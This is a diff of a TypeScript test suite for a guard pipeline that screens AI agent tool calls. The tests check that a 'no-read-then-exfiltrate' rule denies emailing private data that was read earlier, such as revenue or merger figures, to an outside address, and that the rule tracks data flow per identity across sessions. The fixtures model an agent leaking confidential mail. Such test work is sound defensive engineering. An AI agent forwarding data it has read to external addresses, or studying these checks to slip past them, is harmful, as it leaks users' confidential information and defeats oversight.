@@ -77,19 +77,20 @@ describe('guard pipeline on the default book (paper case studies, A.3)', () => {
     expect(d.rules).toContain('no-injection-in-results');
   });
 
-  it('denies a send to an external address after private data was read (read then exfiltrate)', async () => {
-    const send = interaction({ kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'someone@outside.example', body: 'the notes' } });
+  it('denies a send that carries private data read earlier, and only that send (read then exfiltrate)', async () => {
+    const notes = 'Quarterly numbers are attached: revenue 4.2 million, margin 31 percent, and the Lisbon office closes in May.';
+    const send = (body: string) => interaction({ kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'someone@outside.example', body } });
     // Without a prior read, the same send is not a data-flow violation.
-    const before = await g.pipeline.check({ ...send, session: 'fresh' });
+    const before = await g.pipeline.check(send(notes));
     expect(before.rules).not.toContain('no-read-then-exfiltrate');
 
-    const read = await g.pipeline.check(
-      interaction({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: 'Quarterly numbers are attached.' }] }),
-    );
+    const read = await g.pipeline.check(interaction({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: notes }] }));
     expect(read.decision).toBe('allow');
-    const d = await g.pipeline.check(send);
+    const d = await g.pipeline.check(send(`fwd: ${notes}`));
     expect(d.decision).toBe('deny');
-    expect(d.witness.some((w) => w.predicates.private_data_read === 'true')).toBe(true);
+    expect(d.witness.some((w) => w.predicates.private_data_to_external_sink === 'true')).toBe(true);
+    // An unrelated message after the read is not.
+    expect((await g.pipeline.check(send('See you at the review on Thursday, I will bring the printed agenda.'))).rules).not.toContain('no-read-then-exfiltrate');
   });
 
   it('raises a flooding agent to a higher threat level, then quarantines it, and the quarantine survives a restart', async () => {
@@ -138,13 +139,14 @@ describe('guard pipeline on the default book (paper case studies, A.3)', () => {
 });
 
 describe('pipeline with an in-memory store', () => {
-  it('keeps Γ per session: a sticky fact in one session does not leak into another', async () => {
+  it('keeps data flow per identity, not per session: a read in one session is found in another, not for another agent', async () => {
     const store = openStore(':memory:');
     const g = await buildGuard({ policy: DEFAULT_BOOK, store });
-    await g.pipeline.check(interaction({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: 'hello' }], session: 'a' }));
-    const send = { kind: 'tool_call' as const, server: 'mail', tool: 'send_email', arguments: { to: 'z@outside.example', body: 'hi' } };
-    expect((await g.pipeline.check(interaction({ ...send, session: 'a' }))).decision).toBe('deny');
-    expect((await g.pipeline.check(interaction({ ...send, session: 'b' }))).rules).not.toContain('no-read-then-exfiltrate');
+    const text = 'The merger with Borealis Labs closes on the third of March; keep the price of 41 million to the board.';
+    await g.pipeline.check(interaction({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text }], session: 'a' }));
+    const send = { kind: 'tool_call' as const, server: 'mail', tool: 'send_email', arguments: { to: 'z@outside.example', body: text } };
+    expect((await g.pipeline.check(interaction({ ...send, session: 'b' }))).rules).toContain('no-read-then-exfiltrate');
+    expect((await g.pipeline.check(interaction({ ...send, session: 'c', agent: 'someone-else' }))).rules).not.toContain('no-read-then-exfiltrate');
     store.close();
   });
 });
